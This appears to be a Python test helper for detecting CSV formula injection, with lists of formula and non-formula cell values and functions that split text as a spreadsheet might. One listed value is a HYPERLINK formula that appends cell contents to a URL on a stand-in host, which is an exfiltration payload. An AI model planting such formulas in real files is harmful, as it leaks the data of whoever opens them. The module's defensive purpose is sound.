"""CSV text as a spreadsheet may read it: with any separator, and with or without regard for quotes."""

import csv
import io
import re
from itertools import chain

SEPARATORS = (",", ";", "\t")
# Text that would be run, calculated or sent where a spreadsheet opens it.
FORMULAS = [
    '=HYPERLINK("http://example.org?"&A1)',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\tx",
    " =1+1",
    '"=1+1',
    "＝1+1",  # noqa: RUF001 - full width, as an input method for Japanese writes it
    "a;=1+1",
    "a;;@SUM(A1)",
    'a;"=1+1"',
    "a; -1+1",
    "a\t=1+1",
]
NO_FORMULAS = [
    "-1.5",
    "+3",
    "-1,5",
    "-1e-5",
    "0",
    "",
    "ward 3",
    "a-b",
    "x=1",
    "3 - 2",
    "B; C",
    "'=1",
]


def cells(text: str) -> set[str]:
    """All cells, however a spreadsheet may split the text into them."""
    rows = chain.from_iterable(
        csv.reader(io.StringIO(text, newline=""), delimiter=separator) for separator in SEPARATORS
    )
    return {cell for row in rows for cell in row} | {*re.split("[;\t\r\n]", text)}


def formulas(text: str) -> set[str]:
    """The cells that a spreadsheet would calculate; a number is none, nor a line that begins with one."""
    number = re.compile(r"[+-]?[\d.,]+(e[+-]?\d+)?\"?(,|$)")
    return {
        cell
        for cell in cells(text)
        if cell.strip(' "')[:1] in tuple("=+-@＝＋－＠")  # noqa: RUF001
        and not number.match(cell.strip('"'))
    }
